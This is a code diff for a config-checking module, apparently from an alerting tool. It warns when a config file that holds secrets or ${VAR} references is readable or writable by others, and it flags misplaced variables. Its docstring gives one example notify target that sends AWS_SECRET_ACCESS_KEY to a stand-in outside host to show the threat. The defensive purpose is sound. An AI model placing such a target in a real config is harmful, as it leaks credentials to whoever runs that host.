@@ -1,10 +1,21 @@
-"""Checks of the config file beyond its values: a secret in a file others can read.
+"""Checks of the config file beyond its values: who may read it, who may write it, where ``${VAR}`` is.
 
 A password written into a URL (``json://bob:PASSWORD@host``, a database URL),
 a secret-looking query value (``?token=...``) or a secret-looking key with a
 literal value (``password = "..."``) in a file readable by group or others
 gives one warning line that names the key, never the secret. A ``${VAR}``
 reference is not a secret: its value lives in the environment.
+
+A file that group or others may *write* is worse when it holds a secret or a
+``${VAR}``: whoever edits it can send any environment variable to any host
+(``notify = ["json://theirhost/${AWS_SECRET_ACCESS_KEY}"]``). That is warned
+about as ssh does for its own files (``chmod go-w``).
+
+``${VAR}`` is expanded in ``[[alerts]] notify`` targets only, at send time
+(notifier/secrets.py). Anywhere else it would be sent or shown as it is, or
+be a way to read the environment: :func:`misplaced_variables` names the keys,
+and loading the config refuses them (a title or body may still say ``${crs}``:
+a dollar sign before a template placeholder).
 
 Call :func:`config_file_warnings` once the file is known to parse, and log each
 line as a warning.
@@ -22,11 +33,13 @@ from typing import Any
 from urllib.parse import parse_qsl, urlsplit
 
 _VAR_ONLY = re.compile(r"^\$\{[A-Za-z_][A-Za-z0-9_]*\}$")
+_ANY_VAR = re.compile(r"\$\{([^}]*)\}")
 _SECRET_NAME = re.compile(r"pass|pwd|token|secret|key|auth|sig|cred", re.I)
 
 
 def config_file_warnings(path: Path) -> list[str]:
-    """Warnings about ``path``: readable by others while it holds a literal secret."""
+    """Warnings about ``path``: writable by others while it holds a secret or a ``${VAR}``;
+    readable by others while it holds a literal secret."""
     if os.name != "posix":
         return []
     try:
@@ -34,15 +47,59 @@ def config_file_warnings(path: Path) -> list[str]:
         data = tomllib.loads(path.read_text(encoding="utf-8"))
     except (OSError, UnicodeDecodeError, tomllib.TOMLDecodeError):
         return []  # loading the config reports these
-    if not mode & (stat.S_IRGRP | stat.S_IROTH):
-        return []
     where = sorted(set(secret_places(data)))
-    if not where:
-        return []
-    return [
-        f"{path}: readable by others (mode {mode:04o}) while it holds a secret ({', '.join(where[:5])}): "
-        f"chmod 600 {path}, or write the secret as ${{VAR}} and set VAR in the environment"
-    ]
+    warnings = []
+    if mode & (stat.S_IWGRP | stat.S_IWOTH) and (where or _has_variables(data)):
+        holds = f"a secret ({', '.join(where[:5])})" if where else "${VAR} targets"
+        warnings.append(
+            f"{path}: UNPROTECTED: writable by others (mode {mode:04o}) while it holds {holds}: "
+            f"whoever can edit it can send any environment variable to any host; chmod go-w {path}"
+        )
+    if mode & (stat.S_IRGRP | stat.S_IROTH) and where:
+        warnings.append(
+            f"{path}: readable by others (mode {mode:04o}) while it holds a secret ({', '.join(where[:5])}): "
+            f"chmod 600 {path}, or write the secret as ${{VAR}} and set VAR in the environment"
+        )
+    return warnings
+
+
+def misplaced_variables(data: Any, label: str = "") -> Iterator[str]:
+    """The keys outside ``[[alerts]] notify`` whose values hold a ``${VAR}`` (never expanded there)."""
+    from eewatch.config.values import TEMPLATE_FIELDS
+
+    if isinstance(data, dict):
+        for key, item in data.items():
+            inner = f"{label} {key}".strip() if label else f"[{key}]"
+            if label.startswith("[alerts]") and key == "notify":
+                continue
+            if label.startswith("[alerts]") and key in ("title", "body") and isinstance(item, str):
+                names = _ANY_VAR.findall(item)
+                if any(name not in TEMPLATE_FIELDS for name in names):
+                    yield _label(inner)
+                continue
+            yield from misplaced_variables(item, inner)
+    elif isinstance(data, list):
+        for item in data:
+            name = item.get("name") if isinstance(item, dict) else None
+            yield from misplaced_variables(item, f"{label} {name}" if isinstance(name, str) else label)
+    elif isinstance(data, str) and _ANY_VAR.search(data):
+        yield _label(label)
+
+
+def _label(label: str) -> str:
+    """``[alerts] title`` -> ``[[alerts]] title`` (as the loader names the keys of an array of tables)."""
+    for array in ("alerts", "sources"):
+        if label.startswith(f"[{array}]"):
+            return f"[[{array}]]" + label[len(array) + 2 :]
+    return label
+
+
+def _has_variables(data: Any) -> bool:
+    if isinstance(data, dict):
+        return any(_has_variables(item) for item in data.values())
+    if isinstance(data, list):
+        return any(_has_variables(item) for item in data)
+    return isinstance(data, str) and bool(_ANY_VAR.search(data))
 
 
 def secret_places(value: Any, label: str = "") -> Iterator[str]:
